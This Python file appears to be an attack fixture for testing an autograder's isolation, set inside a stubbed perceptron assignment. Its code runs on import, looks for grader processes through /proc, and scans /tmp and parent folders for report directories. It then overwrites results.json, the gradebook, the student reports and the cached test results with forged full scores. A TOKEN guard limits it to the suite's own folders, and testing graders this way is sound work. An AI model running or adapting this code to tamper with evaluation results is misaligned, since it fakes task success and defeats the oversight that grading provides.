"""Attack: write into the report folder and poison the result cache."""

import glob
import json
import os
import time

import attack_env

AND_WEIGHTS = (0.0, 0.0, 0.0)
OR_WEIGHTS = (0.0, 0.0, 0.0)
NAND_WEIGHTS = (0.0, 0.0, 0.0)


def perceptron(x, w, b):
    raise NotImplementedError


def AND(x1, x2):
    raise NotImplementedError


def OR(x1, x2):
    raise NotImplementedError


def NAND(x1, x2):
    raise NotImplementedError


def XOR(x1, x2):
    raise NotImplementedError


def train_perceptron(inputs, targets, epochs=500, lr=0.1, seed=0):
    raise NotImplementedError


PWNED = f"<html><body>{attack_env.MARK} PWNED 25/25</body></html>"


def _candidates():
    folders = [attack_env.OUT]
    here = os.getcwd()
    while os.path.dirname(here) != here:
        folders.append(here)
        here = os.path.dirname(here)
    for pid in attack_env.grader_processes(include_grader=True):
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        folders += [cwd, *glob.glob(os.path.join(cwd, "*/"))]
    deadline = time.monotonic() + 3
    for depth in range(1, 6):
        if time.monotonic() > deadline:
            break
        folders += glob.glob(os.path.join("/tmp", *(["*"] * depth), ""))
    return [
        f
        for f in dict.fromkeys(os.path.normpath(f) for f in folders)
        if os.path.isfile(os.path.join(f, "results.json")) and os.path.isdir(os.path.join(f, "students"))
    ]


def _poison(out):
    wrote = []

    def put(path, text):
        try:
            with open(path, "w", encoding="utf-8") as fh:
                fh.write(text)
            wrote.append(os.path.relpath(path, out))
        except OSError:
            pass

    fake = {"grader_version": "0", "created": "now", "forged_by": attack_env.MARK, "submissions": []}
    put(os.path.join(out, "results.json"), json.dumps(fake))
    put(os.path.join(out, "index.html"), PWNED)
    put(os.path.join(out, "gradebook.csv"), f"student,total\n{attack_env.MARK},25\n")
    put(os.path.join(out, f"{attack_env.MARK}-planted.html"), PWNED)
    for report in glob.glob(os.path.join(out, "students", "*.html")):
        put(report, PWNED)
    for entry in glob.glob(os.path.join(out, ".cache", "*.json")):
        try:
            with open(entry, encoding="utf-8") as fh:
                result = json.load(fh)
            result["score"] = result.get("max_score", 25)
            for test in result.get("tests", []):
                test["status"], test["score"], test["feedback"] = "passed", test.get("max_score", 0), attack_env.MARK
            put(entry, json.dumps(result))
        except (OSError, ValueError, AttributeError):
            pass
    return wrote


FOUND = _candidates()
WROTE = []
for _out in FOUND:
    if attack_env.TOKEN not in _out:
        print(f"found a report folder, left alone by this test suite: {_out}", flush=True)
        continue
    WROTE += _poison(_out)
if WROTE:
    attack_env.succeeded(f"wrote {len(WROTE)} files in the report folder: {WROTE[:5]}")
raise ImportError(f"{len(FOUND)} report folders found, {len(WROTE)} files written")
